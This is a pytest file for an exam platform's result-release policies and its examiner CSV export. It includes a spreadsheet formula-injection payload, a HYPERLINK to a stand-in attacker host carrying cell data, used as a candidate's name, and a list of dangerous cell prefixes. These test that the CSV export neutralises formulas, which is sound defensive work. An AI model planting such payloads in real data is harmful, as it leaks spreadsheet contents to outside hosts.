"""Results: release policies, the examiner's table and a CSV safe from formula injection."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest

from core.services import Services
from plugins.exams.results import safe_cell
from storage.tables.user import User
from tests.exams.support import (
    RIGHT,
    WRONG,
    Client,
    FakeClock,
    add_question,
    add_users,
    create_exam,
    fixed,
    headers,
    save,
    start,
    submit,
)

EVENTS = "tests.support_tickets.listener_plugin"  # keeps every domain event it hears


@pytest.fixture
def extra_plugins() -> tuple[str, ...]:
    return (EVENTS,)


async def sit(client: Client, user: User, exam: dict[str, Any], response: dict[str, Any]) -> str:
    attempt: str = (await start(client, user, exam["id"]))["id"]
    assert (await save(client, user, attempt, 0, response, seq=1))[0] == 200
    await submit(client, user, attempt)
    return attempt


async def result_status(client: Client, user: User, attempt: str) -> tuple[int, str]:
    response = await client.get(f"/api/v1/attempts/{attempt}/result", headers=headers(user))
    body = await response.json()
    return response.status, body["error"]["code"] if response.status != 200 else "ok"


async def one_question_exam(
    client: Client, services: Services, examiner: User, users: list[User], **settings: Any
) -> dict[str, Any]:
    question = await add_question(services, "true_false")
    return await create_exam(
        client, examiner, sections=[fixed(question)], candidates=users, **settings
    )


async def test_manual_release(
    client: Client, services: Services, examiner: User, candidate: User
) -> None:
    exam = await one_question_exam(client, services, examiner, [candidate], release_policy="manual")
    attempt = await sit(client, candidate, exam, RIGHT["true_false"])
    assert await result_status(client, candidate, attempt) == (409, "result_not_released")
    assert (await result_status(client, examiner, attempt))[0] == 200  # staff any time
    mine = await (await client.get("/api/v1/my/exams", headers=headers(candidate))).json()
    assert mine[0]["result_released"] is False

    released = await client.post(f"/api/v1/exams/{exam['id']}/release", headers=headers(examiner))
    assert released.status == 200
    assert await result_status(client, candidate, attempt) == (200, "ok")
    mine = await (await client.get("/api/v1/my/exams", headers=headers(candidate))).json()
    assert mine[0]["result_released"] is True


async def test_after_close_release(
    fake_clock: FakeClock, client: Client, services: Services, examiner: User, candidate: User
) -> None:
    closes = fake_clock.current + timedelta(hours=2)
    exam = await one_question_exam(
        client, services, examiner, [candidate], release_policy="after_close", closes_at=closes
    )
    attempt = await sit(client, candidate, exam, RIGHT["true_false"])
    assert await result_status(client, candidate, attempt) == (409, "result_not_released")
    fake_clock.advance(hours=2)
    assert await result_status(client, candidate, attempt) == (200, "ok")


async def test_immediate_release_waits_for_every_score(
    client: Client, services: Services, examiner: User, candidate: User
) -> None:
    essay = await add_question(services, "essay")
    exam = await create_exam(
        client,
        examiner,
        sections=[fixed(essay)],
        candidates=[candidate],
        release_policy="immediately",
    )
    attempt = await sit(client, candidate, exam, {"text": "Some thoughts."})
    assert await result_status(client, candidate, attempt) == (409, "result_pending")
    marked = await client.put(
        f"/api/v1/grading/{attempt}/0", json={"score": 0.5}, headers=headers(examiner)
    )
    assert marked.status == 200, await marked.text()
    assert await result_status(client, candidate, attempt) == (200, "ok")


async def test_results_table_and_csv(
    client: Client, services: Services, examiner: User, candidates: list[User]
) -> None:
    evil = (await add_users(services, "candidate", 1, prefix="mallory"))[0]
    async with services.db.session() as db:
        row = await db.get(User, evil.id)
        assert row is not None
        row.display_name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        await db.commit()
    exam = await one_question_exam(
        client, services, examiner, [candidates[0], candidates[1], evil], pass_mark=50
    )
    await sit(client, candidates[0], exam, RIGHT["true_false"])
    await sit(client, evil, exam, WRONG["true_false"])
    await start(client, candidates[1], exam["id"])

    table = await (
        await client.get(f"/api/v1/exams/{exam['id']}/results", headers=headers(examiner))
    ).json()
    by_email = {r["email"]: r for r in table["rows"]}
    assert (
        by_email["candidate0@example.com"]["percent"],
        by_email["candidate0@example.com"]["passed"],
    ) == (
        100.0,
        True,
    )
    assert by_email["mallory0@example.com"]["passed"] is False
    assert (
        by_email["candidate1@example.com"]["status"],
        by_email["candidate1@example.com"]["score"],
    ) == (
        "in_progress",
        None,
    )

    response = await client.get(
        f"/api/v1/exams/{exam['id']}/results.csv", headers=headers(examiner)
    )
    assert response.status == 200
    assert response.content_type == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(await response.text())))
    assert rows[0][:3] == ["attempt_id", "user_id", "email"]
    assert len(rows) == 4
    names = {r[2]: r[3] for r in rows[1:]}
    assert names["mallory0@example.com"].startswith("'=HYPERLINK")
    forbidden = await client.get(
        f"/api/v1/exams/{exam['id']}/results.csv", headers=headers(candidates[0])
    )
    assert forbidden.status == 403


def test_formula_cells_are_neutralised() -> None:
    for dangerous in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\tcmd", "\rcmd"):
        assert safe_cell(dangerous) == "'" + dangerous
    assert safe_cell("Ada Lovelace") == "Ada Lovelace"
    assert safe_cell(-1.5) == -1.5  # numbers stay numbers
    assert safe_cell(None) == ""
    assert safe_cell(True) == "yes"


async def test_a_candidate_hears_once_when_immediate_results_are_complete(
    client: Client, services: Services, examiner: User, candidate: User
) -> None:
    from tests.support_tickets.listener_plugin import events_of  # noqa: PLC0415

    essay = await add_question(services, "essay")
    immediate = await create_exam(
        client, examiner, sections=[fixed(essay)], candidates=[candidate],
        release_policy="immediately",
    )  # fmt: skip
    attempt = await sit(client, candidate, immediate, {"text": "Some thoughts."})
    assert events_of(services, "results.") == []  # the essay waits for a person
    for score in (0.5, 1.0):  # marked, then marked again: the results came out once
        marked = await client.put(
            f"/api/v1/grading/{attempt}/0", json={"score": score}, headers=headers(examiner)
        )
        assert marked.status == 200, await marked.text()
    expected = {"exam_id": immediate["id"], "attempt_id": attempt, "user_id": candidate.id}
    assert events_of(services, "results.") == [("results.released", expected)]

    manual = await one_question_exam(
        client, services, examiner, [candidate], release_policy="manual"
    )
    await sit(client, candidate, manual, RIGHT["true_false"])  # graded at once, not released
    assert len(events_of(services, "results.")) == 1


async def test_results_that_open_at_the_close_are_announced_once(
    fake_clock: FakeClock, client: Client, services: Services, examiner: User, candidate: User
) -> None:
    from plugins.exams.release import release_closed  # noqa: PLC0415
    from tests.support_tickets.listener_plugin import events_of  # noqa: PLC0415

    closes = fake_clock.current + timedelta(hours=2)
    at_close = await one_question_exam(
        client, services, examiner, [candidate], release_policy="after_close", closes_at=closes
    )
    early = await one_question_exam(
        client, services, examiner, [candidate], release_policy="after_close", closes_at=closes
    )
    await sit(client, candidate, at_close, RIGHT["true_false"])
    await sit(client, candidate, early, RIGHT["true_false"])
    released = await client.post(f"/api/v1/exams/{early['id']}/release", headers=headers(examiner))
    assert released.status == 200
    assert await release_closed(services) == []  # not closed yet
    fake_clock.advance(hours=2)
    await release_closed(services)  # the sweeper may have been first: either way, once
    await release_closed(services)
    announced = [d["exam_id"] for n, d in events_of(services, "results.") if "user_id" not in d]
    assert sorted(announced) == sorted([early["id"], at_close["id"]])  # early: by its release
    exam = await (
        await client.get(f"/api/v1/exams/{at_close['id']}", headers=headers(examiner))
    ).json()
    assert exam["released_at"] is not None


async def test_results_that_opened_long_ago_are_stamped_without_a_message(
    fake_clock: FakeClock, client: Client, services: Services, examiner: User, candidate: User
) -> None:
    from plugins.exams.release import STALE_AFTER, release_closed  # noqa: PLC0415
    from tests.support_tickets.listener_plugin import events_of  # noqa: PLC0415

    closes = fake_clock.current + timedelta(hours=1)
    exam = await one_question_exam(
        client, services, examiner, [candidate], release_policy="after_close", closes_at=closes
    )
    fake_clock.advance(hours=1, seconds=STALE_AFTER.total_seconds() + 60)
    await release_closed(services)
    assert [d for _, d in events_of(services, "results.") if d["exam_id"] == exam["id"]] == []
    body = await (await client.get(f"/api/v1/exams/{exam['id']}", headers=headers(examiner))).json()
    assert body["released_at"] is not None
